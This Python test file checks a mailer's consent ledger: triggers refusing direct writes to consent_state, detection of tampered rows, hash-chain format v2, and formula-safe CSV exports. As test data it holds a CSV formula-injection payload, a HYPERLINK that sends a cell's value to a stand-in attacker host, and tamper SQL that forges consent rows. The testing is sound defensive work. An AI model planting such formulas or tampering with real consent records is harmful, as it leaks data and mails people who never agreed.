"""consent_state cannot drift from the ledger: the database refuses direct writes, verify
names every disagreement, no marketing mail goes out through a tampered row; chain
format v2 covers the customer; CSV exports are spreadsheet-safe and still verify."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from mailer import db, segments
from mailer.cli import main
from mailer.consent import export as consent_export
from mailer.consent import ledger as consent
from mailer.consent import verify as consent_verify
from mailer.models import ConsentEvent, ConsentState
from tests.campaign_support import add_customer
from tests.consent_support import unprotected
from tests.test_campaign_send import _create, _recipients, _send
from tests.test_campaign_send import env as campaign_env  # noqa: F401  (a fixture, used by `env` below)


@pytest.fixture
def env(campaign_env):  # noqa: F811
    """The campaign tests' App with a stub broker and the in-memory transport."""
    return campaign_env


def _people(env) -> dict[str, int]:
    """A withdrew, B and D consent, C never agreed."""
    with env.app.session() as s:
        ids = {name: add_customer(s, env.settings, f"{name.lower()}@example.com",
                                  purposes=() if name == "C" else ("newsletter",)).id for name in "ABCD"}
        consent.withdraw(s, env.settings, email="a@example.com", purpose="newsletter")
    return ids


def _grant_of(url: str, cid: int) -> int:
    with db.get_engine(url).connect() as conn:
        return conn.execute(sa.select(ConsentEvent.id).where(ConsentEvent.customer_id == cid,
                                                             ConsentEvent.action == "granted")).scalar_one()


def _verify(env) -> consent_verify.Report:
    with env.app.session() as s:
        return consent_verify.verify_db(s, env.settings)


# -- the database refuses --------------------------------------------------------------------------
STATEMENTS = {
    "flip": "UPDATE consent_state SET granted = {true} WHERE customer_id = {A}",
    "insert": "INSERT INTO consent_state (customer_id, purpose, granted, basis, event_id, updated_at) "
              "SELECT {C}, 'newsletter', {true}, 'consent', id, occurred_at FROM consent_events WHERE id = {grant_B}",
    "delete": "DELETE FROM consent_state WHERE customer_id = {B}",
    "repoint": "UPDATE consent_state SET granted = {true}, event_id = {grant_B} WHERE customer_id = {A}",
}


@pytest.mark.parametrize("tamper", sorted(STATEMENTS))
def test_the_database_refuses_every_direct_write_to_consent_state(env, tamper):
    # Given customers whose state the ledger derived
    ids = _people(env)
    url = env.settings.database_url
    true = "1" if url.startswith("sqlite") else "true"
    sql = STATEMENTS[tamper].format(true=true, grant_B=_grant_of(url, ids["B"]), **ids)
    # When someone writes consent_state with plain SQL
    # Then the database refuses, and nothing changed
    with pytest.raises(sa.exc.DatabaseError, match="derived from consent_events"):
        with db.get_engine(url).begin() as conn:
            conn.exec_driver_sql(sql)
    assert _verify(env).ok
    # And the ledger's own path still writes it
    with env.app.session() as s:
        consent.grant(s, env.settings, email="c@example.com", purpose="newsletter", source="admin")
    with env.app.session() as s:
        assert consent.has_consent(s, env.settings, ids["C"], "newsletter")
    assert _verify(env).ok


# -- with the triggers dropped, verify names it and the send path ignores it ------------------------
def _tamper(url: str, tamper: str, ids: dict[str, int]) -> None:
    true = "1" if url.startswith("sqlite") else "true"
    grant_b = _grant_of(url, ids["B"])
    with unprotected(url) as conn:
        if tamper == "move_event":
            conn.exec_driver_sql(f"UPDATE consent_events SET customer_id = {ids['C']} WHERE id = {grant_b}")
        else:
            conn.exec_driver_sql(STATEMENTS[tamper].format(true=true, grant_B=grant_b, **ids))


#: tamper -> (customer, kind of state disagreement verify names), who must not get mail
EXPECTED = {
    "flip": ([("A", consent_verify.STATE_WRONG_STATUS)], {"A"}),
    "insert": ([("C", consent_verify.STATE_EXTRA)], {"C"}),
    "delete": ([("B", consent_verify.STATE_MISSING)], {"B"}),
    "repoint": ([("A", consent_verify.STATE_WRONG_EVENT)], {"A"}),
    "move_event": ([("B", consent_verify.STATE_EXTRA), ("C", consent_verify.STATE_MISSING)], {"B", "C"}),
}


@pytest.mark.parametrize("tamper", sorted(EXPECTED))
def test_verify_names_every_tampered_state_and_no_mail_goes_out_through_it(env, tamper):
    # Given customers whose state the ledger derived, and an attacker with the triggers off
    ids = _people(env)
    url = env.settings.database_url
    _tamper(url, tamper, ids)
    names = {v: k for k, v in ids.items()}
    # When the ledger is verified
    report = _verify(env)
    # Then verify names exactly the (customer, purpose) pairs that disagree
    expected, unmailed = EXPECTED[tamper]
    assert not report.ok
    assert [(names[m.customer_id], m.purpose, m.kind) for m in report.state_mismatches] == \
        [(who, "newsletter", kind) for who, kind in expected]
    if tamper == "move_event":
        # And the v2 chain hash covers the customer: moving an event breaks the chain there
        assert report.problem is not None and report.problem.kind == consent_verify.EDITED
    # And the CLI says so and exits 1
    res = CliRunner().invoke(main, ["consent", "verify"], env={"MAILER_DATABASE_URL": url,
                                                               "MAILER_SECRET_KEY": env.settings.secret_key})
    assert res.exit_code == 1
    for who, kind in expected:
        assert f"customer {ids[who]}, purpose newsletter: {kind}" in res.output
    # And neither the segment nor the gate lets a tampered row through
    seg = segments.load(env.settings, "newsletter_all")
    with env.app.session() as s:
        for who in unmailed:
            assert not consent.has_consent(s, env.settings, ids[who], "newsletter")
            assert not segments.contains(s, env.settings, seg, ids[who])
    # And a campaign mails only the untampered consenting customers
    cid = _create(env)
    _send(env, cid)
    env.drain()
    assert _recipients() == sorted(f"{w.lower()}@example.com" for w in ("B", "D") if w not in unmailed)


# -- chain format v2 ---------------------------------------------------------------------------------
def test_v1_events_before_the_boundary_still_verify_and_new_events_are_v2(db_url, tmp_path):
    # Given a database at revision 0001 with three v1 events
    from tests.conftest import make_settings

    settings = make_settings(database_url=db_url, hash_salt="pre-0003-salt")  # 0001 has no stored salt
    db.downgrade(db_url, "0001")
    db.dispose_engines()
    with db.session_scope(settings) as s:
        from types import SimpleNamespace

        from mailer.addresses import email_hash

        # Raw SQL: the ORM model knows columns that later migrations add.
        sh = email_hash("old@example.com", b"pre-0003-salt")
        s.execute(sa.text("INSERT INTO customers (email, email_hash, total_spent, orders_count, attributes, "
                          "created_at, updated_at) VALUES ('old@example.com', :h, 0, 0, '{}', CURRENT_TIMESTAMP, "
                          "CURRENT_TIMESTAMP)"), {"h": sh})
        cid = s.execute(sa.text("SELECT id FROM customers WHERE email = 'old@example.com'")).scalar_one()
        cust = SimpleNamespace(id=cid, email_hash=sh)
        prev = consent.GENESIS
        for seq in (1, 2, 3):
            fields = {"seq": seq, "subject_hash": cust.email_hash, "purpose": "newsletter",
                      "action": "granted" if seq != 2 else "withdrawn", "basis": "consent", "source": "import",
                      "occurred_at": f"2026-01-0{seq}T00:00:00.000000+00:00",
                      "recorded_at": f"2026-01-0{seq}T00:00:00.000000+00:00"}
            h = consent.chain_hash(prev, fields)
            when = (f"2026-01-0{seq} 00:00:00.000000" if db_url.startswith("sqlite")
                    else fields["occurred_at"])
            s.execute(sa.text("INSERT INTO consent_events (seq, customer_id, subject_hash, purpose, action, basis, "
                              "source, occurred_at, recorded_at, prev_hash, hash) VALUES (:seq, :c, :sh, "
                              "'newsletter', :a, 'consent', 'import', :t, :t, :p, :h)"),
                      {"seq": seq, "c": cust.id, "sh": cust.email_hash, "a": fields["action"], "t": when,
                       "p": prev, "h": h})
            prev = h
        s.execute(sa.text("INSERT INTO consent_state (customer_id, purpose, granted, basis, event_id, updated_at) "
                          "SELECT customer_id, purpose, action = 'granted', basis, id, occurred_at FROM "
                          "consent_events WHERE seq = 3"))
    # When the database is migrated to head and two events are appended
    db.upgrade(settings)
    db.dispose_engines()
    with db.session_scope(settings) as s:
        cust = consent.customer_by_email(s, "old@example.com")
        consent.withdraw(s, settings, customer=cust, purpose="newsletter")
        consent.grant(s, settings, customer=cust, purpose="newsletter", source="admin")
    with db.session_scope(settings) as s:
        formats = [e.chain_format for e in s.execute(sa.select(ConsentEvent).order_by(ConsentEvent.seq)).scalars()]
        report = consent_verify.verify_db(s, settings)
    # Then the old events stay v1, the new are v2, and the whole chain verifies with its parts named
    assert formats == [1, 1, 1, 2, 2]
    assert report.ok, (report.problem, report.state_mismatches)
    assert report.formats_text() == "events 1–3: format v1; 4–5: format v2"
    res = CliRunner().invoke(main, ["consent", "verify"], env={"MAILER_DATABASE_URL": db_url,
                                                               "MAILER_SECRET_KEY": settings.secret_key})
    assert res.exit_code == 0, res.output
    assert "events 1–3: format v1; 4–5: format v2" in res.output
    # And an export of the mixed chain verifies on its own
    out = io.StringIO(newline="")
    with db.session_scope(settings) as s:
        consent_export.export(s, settings, out, fmt="csv")
    report = consent_verify.verify_stream(io.BytesIO(out.getvalue().encode()), "csv")
    assert report.ok, report.problem
    assert report.formats == [[1, 1, 3], [2, 4, 5]]
    # And a v1 event after the recorded boundary is refused as a downgrade
    with unprotected(db_url) as conn:
        conn.exec_driver_sql("UPDATE consent_events SET chain_format = 1 WHERE seq = 5")
    with db.session_scope(settings) as s:
        report = consent_verify.verify_db(s, settings)
    assert report.problem is not None and report.problem.seq == 5


# -- spreadsheet-safe CSV ----------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_export_neutralizes_formulas_and_still_verifies(db_url):
    # Given events whose proof holds formula-looking text
    from tests.conftest import make_settings

    settings = make_settings(database_url=db_url)
    with db.session_scope(settings) as s:
        consent.grant(s, settings, email="x@example.com", purpose="newsletter", source="signup_form",
                      proof=consent.Proof(user_agent=FORMULA, form_id="+SUM(1,2)", ip="-1", wording="@cmd"))
        consent.grant(s, settings, email="y@example.com", purpose="newsletter", source="signup_form",
                      proof=consent.Proof(user_agent="'=already quoted", form_id="\tTAB"))
    # When the ledger is exported as CSV
    out = io.StringIO(newline="")
    with db.session_scope(settings) as s:
        consent_export.export(s, settings, out, fmt="csv")
    text = out.getvalue()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # Then no cell starts with a formula character, the formula is there behind a quote
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells and "'+SUM(1,2)" in cells and "''=already quoted" in cells
    assert '"escaping":"owasp-leading-quote"' in text.replace('""', '"')
    # And the file still proves the ledger
    report = consent_verify.verify_stream(io.BytesIO(text.encode()), "csv")
    assert report.ok, report.problem
    # And editing an escaped cell is still noticed
    bad = text.replace("'+SUM(1,2)", "'+SUM(1,3)")
    assert not consent_verify.verify_stream(io.BytesIO(bad.encode()), "csv").ok


def test_state_rows_name_their_event_and_an_erasure_goes_through_the_ledger(env):
    # Given a consenting customer
    ids = _people(env)
    from mailer.gdpr import requests as gdpr

    # When the customer is erased
    with env.app.session() as s:
        gdpr.erase(s, env.settings, "b@example.com")
    # Then the state names the withdrawal the erasure recorded, and the ledger verifies
    with env.app.session() as s:
        state = s.get(ConsentState, (ids["B"], "newsletter"))
        ev = s.get(ConsentEvent, state.event_id)
        assert (state.granted, ev.customer_id, ev.action.value) == (False, ids["B"], "withdrawn")
    assert _verify(env).ok
